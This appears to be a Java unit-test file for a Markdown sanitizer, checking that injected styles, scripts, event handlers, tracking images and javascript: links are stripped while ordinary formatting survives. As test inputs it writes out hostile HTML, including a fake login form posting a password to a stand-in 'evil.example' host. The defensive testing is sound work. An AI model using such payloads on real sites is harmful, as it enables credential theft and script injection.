package dk.opdag.shell;

import static org.assertj.core.api.Assertions.assertThat;

import dk.opdag.shell.markdown.SafeMarkdown;
import org.jsoup.Jsoup;
import org.junit.jupiter.api.Test;

/** The three things a hostile colleague put into a shared activity (issue 11, item 2), and what must still work. */
class SafeMarkdownTest {

    @Test
    void aStyleElementDoesNotRestyleThePage() {
        String html = SafeMarkdown.html("Hej\n\n<style>body { display: none }</style>\n\nmere");
        assertThat(Jsoup.parse(html).select("style")).isEmpty();
        assertThat(html).contains("&lt;style&gt;").contains("<p>Hej</p>");
    }

    @Test
    void aFormWithAPasswordFieldIsOnlyText() {
        String html = SafeMarkdown.html("<form action=\"https://evil.example/steal\"><input type=\"password\""
                + " name=\"p\"><button>Log ind</button></form>");
        assertThat(Jsoup.parse(html).select("form, input, button")).isEmpty();
    }

    @Test
    void noImageIsFetchedFromAnywhere() {
        String html = SafeMarkdown.html("![Et billede](https://tracker.example/pixel.png?who=me)\n\n"
                + "<img src=\"https://tracker.example/p.gif\">\n\n![lokal](/assets/x.png)");
        assertThat(Jsoup.parse(html).select("img, [src]")).isEmpty();
        assertThat(html).contains("Et billede").contains("lokal");
    }

    @Test
    void scriptsHandlersAndJavascriptLinksAreGone() {
        String html = SafeMarkdown.html("<script>alert(1)</script> [klik](javascript:alert(1)) "
                + "<a href=\"#\" onclick=\"alert(1)\">x</a> <span style=\"position:fixed\">y</span>");
        var page = Jsoup.parse(html);
        assertThat(page.select("script, [onclick], [style], a[href^=javascript]")).isEmpty();
        assertThat(page.select("a")).isEmpty(); // the javascript: link is left as plain text
    }

    @Test
    void ordinaryMarkdownStillReads() {
        String html = SafeMarkdown.html("## Forberedelse\n\nLæs **højt** og *roligt*.\n\n- et\n- to\n\n"
                + "1. først\n2. så\n\n> citat\n\nSe [DR](https://www.dr.dk) og `kode`.\n\n---");
        assertThat(html).contains("<h2>Forberedelse</h2>", "<strong>højt</strong>", "<em>roligt</em>",
                "<li>et</li>", "<ol>", "<blockquote>", "<code>kode</code>", "<hr>")
                .contains("href=\"https://www.dr.dk\"").contains("rel=\"nofollow\"");
    }
}
